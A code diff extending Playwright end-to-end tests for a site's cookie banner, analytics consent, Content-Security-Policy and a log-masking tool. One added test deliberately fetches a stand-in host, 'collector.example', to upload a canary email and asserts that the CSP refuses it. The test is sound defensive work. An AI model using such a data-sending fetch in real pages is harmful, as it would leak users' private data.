@@ -2,6 +2,7 @@
 // NEXT_PUBLIC_GA_ID=G-TEST000000, NEXT_PUBLIC_ADSENSE_CLIENT=ca-pub-0000000000000000 (scripts/build-e2e.mjs).
 // Google's hosts are intercepted (no internet here): stubs record what gtag.js / adsbygoogle.js were asked.
 import { existsSync } from 'node:fs';
+import AxeBuilder from '@axe-core/playwright';
 import { test, expect, type Page } from '@playwright/test';
 import {
   AD_HOST,
@@ -50,6 +51,14 @@ test('1. a fresh visitor sees the banner; nothing is requested from analytics or
   expect(await analyticsCookies(context)).toEqual([]);
   expect((await context.cookies()).map((c) => c.name)).toEqual(['theme']); // only the planted _ga* were removed
   expect(await page.evaluate(() => typeof (window as unknown as { gtag?: unknown }).gtag)).toBe('undefined');
+
+  // the banner itself passes axe (labelled region, named buttons, contrast)
+  const axe = await new AxeBuilder({ page }).include('section[aria-labelledby="cookie-banner-title"]').analyze();
+  expect(axe.violations.map((v) => v.id)).toEqual([]);
+  // keyboard: Tab reaches Accept and Reject after the page content, and focus moves on past them (no trap)
+  await page.getByRole('button', { name: 'Reject' }).focus();
+  await page.keyboard.press('Tab');
+  expect(await page.evaluate(() => document.activeElement?.closest('[aria-labelledby="cookie-banner-title"]') === null)).toBe(true);
 });
 
 test('2. Accept loads analytics once with consent granted; one page view per route change; no banner after reload', async ({ page, context, baseURL }) => {
@@ -78,15 +87,20 @@ test('2. Accept loads analytics once with consent granted; one page view per rou
     visited.push(path);
     await expectPageViews(page, visited);
   }
+  // a client-side route change with a query (history.pushState is synced by the Next router): path + query sent
+  await page.evaluate(() => window.history.pushState(null, '', '/faq/?ref=e2e'));
+  visited.push('/faq/?ref=e2e');
+  await expectPageViews(page, visited);
   expect(await page.evaluate(() => (window as unknown as { __sameDocument?: boolean }).__sameDocument)).toBe(true);
   expect(net.toHost(GTAG_HOST)).toHaveLength(1); // gtag.js requested once for the whole visit
-  expect(net.toHost(AD_HOST).length).toBeLessThanOrEqual(1); // the ad script at most once (after consent)
+  expect(net.toHost(AD_HOST)).toHaveLength(1); // the ad script once (after consent; /blog has a slot)
+  expect(await page.evaluate(() => (window as unknown as { __adsStub?: { loads: number } }).__adsStub?.loads)).toBe(1);
   expect(net.thirdParty().every((r) => r.host === GTAG_HOST || r.host === AD_HOST)).toBe(true);
 
   await page.reload();
   await expect(page.locator('main').first()).toBeVisible();
   await expect(consentRegion(page)).toHaveCount(0);
-  await expectPageViews(page, ['/faq/']); // a full load counts once, not twice
+  await expectPageViews(page, ['/faq/?ref=e2e']); // a full load counts once, not twice
   expect(await storedConsent(page)).toBe('accepted');
 });
 
@@ -133,7 +147,8 @@ test('4. /tool with consent accepted: only same-origin requests, CSP present, th
   await expect(page).toHaveURL(/\/tool\/$/);
   await page.waitForLoadState('networkidle');
 
-  const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
+  // in <head>, where the browser enforces it (a CSP meta in <body> is ignored)
+  const csp = await page.locator('head > meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
   expect(csp).toBeTruthy();
   expect(csp).toMatch(/default-src 'self'/);
   expect(csp).toMatch(/connect-src 'self'/);
@@ -145,19 +160,36 @@ test('4. /tool with consent accepted: only same-origin requests, CSP present, th
   }))).toEqual({ gtag: 'undefined', dataLayer: 'undefined', scripts: [] });
 
   const canary = {
-    email: 'canary.leak.7f3a@pastesafe-canary.test',
+    email: 'canary.leak.7f3a@canary-mail.com',
     token: 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJjYW5hcnktN2YzYSJ9.Q2FuYXJ5U2lnbmF0dXJlN2YzYQ',
     ip: '10.77.31.203',
   };
   const input = `2024-05-01T10:00:00Z login ok user=${canary.email} from ${canary.ip}\nAuthorization: Bearer ${canary.token}\n`;
-  await page.getByRole('textbox').first().fill(input);
-  await page.getByRole('button', { name: /^Mask$/ }).click();
-  await expect(page.getByText(/\[Masked Email 1\]/).first()).toBeVisible();
-  await page.getByRole('button', { name: /^Replace$/ }).click();
+  const output = page.getByRole('region', { name: 'Output' });
+  await page.getByLabel('Input', { exact: true }).fill(input);
+  await page.getByRole('button', { name: 'Mask', exact: true }).click();
+  await expect(output).toContainText('[Masked Email 1]');
+  await expect(output).not.toContainText(canary.email);
+  await page.getByRole('button', { name: 'Replace', exact: true }).click();
+  await expect(output).not.toContainText('[Masked Email 1]');
+  await expect(output).not.toContainText(canary.email);
   await page.waitForTimeout(1000);
   await page.waitForLoadState('networkidle');
+
+  // the CSP is enforced, not just present: a scripted upload attempt is refused by the browser itself
+  const attempt = await page.evaluate(async (value) => {
+    const violations: string[] = [];
+    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
+    const result = await fetch(`https://collector.example/upload?d=${encodeURIComponent(value)}`, { method: 'POST', body: value })
+      .then(() => 'sent')
+      .catch(() => 'refused');
+    await new Promise((resolve) => setTimeout(resolve, 100));
+    return { result, violations };
+  }, canary.email);
+  expect(attempt).toEqual({ result: 'refused', violations: ['connect-src'] });
   await net.settle();
 
+  expect(net.requests.length).toBeGreaterThan(0); // the /tool document and its own chunks were seen
   expect(net.thirdParty()).toEqual([]);
   expect(sockets).toEqual([]);
   expect(net.requests.every((r) => r.url.startsWith(baseURL!))).toBe(true);
@@ -167,6 +199,36 @@ test('4. /tool with consent accepted: only same-origin requests, CSP present, th
       expect(carried, `${request.method} ${request.url} must not carry ${value}`).not.toContain(value);
     }
   }
+});
+
+test('4b. on /tool the banner records Accept and nothing third-party loads, also after leaving and coming Back', async ({ page, context, baseURL }) => {
+  const net = await watchNetwork(context, baseURL!);
+  await page.goto('/tool/');
+  await expect(consentRegion(page)).toBeVisible();
+  await page.getByRole('button', { name: 'Accept' }).click();
+  await expect(consentRegion(page)).toBeHidden();
+  expect(await storedConsent(page)).toBe('accepted');
+  await page.waitForTimeout(2500);
+  expect(net.thirdParty()).toEqual([]);
+
+  // /tool → Blog is a client-side navigation: the document keeps the tool's CSP, so even with consent the
+  // gtag/AdSense scripts are refused by the browser before any request is made…
+  await linkTo(page, '/blog/').click();
+  await expect(page).toHaveURL(/\/blog\/$/);
+  await expect.poll(() => net.refusedByCsp().map((r) => r.host).sort()).toEqual([GTAG_HOST, AD_HOST].sort());
+  expect(await gtagStub(page)).toBeNull();
+  // …and Back to /tool is a clean document without any third-party script (the Analytics guard reloads it)
+  await page.goBack();
+  await expect(page).toHaveURL(/\/tool\/$/);
+  await expect(page.getByLabel('Input', { exact: true })).toBeVisible();
+  await expect
+    .poll(() => page.evaluate(() => ({
+      gtag: typeof (window as unknown as { gtag?: unknown }).gtag,
+      thirdPartyScripts: Array.from(document.scripts).filter((s) => s.src && !s.src.startsWith(location.origin)).length,
+    })))
+    .toEqual({ gtag: 'undefined', thirdPartyScripts: 0 });
+  await page.waitForTimeout(1000);
+  expect(net.thirdParty()).toEqual([]);
 });
 
 test('5. with the ad host blocked the 2 s check warns and the slot box keeps its size', async ({ page, context, baseURL }) => {
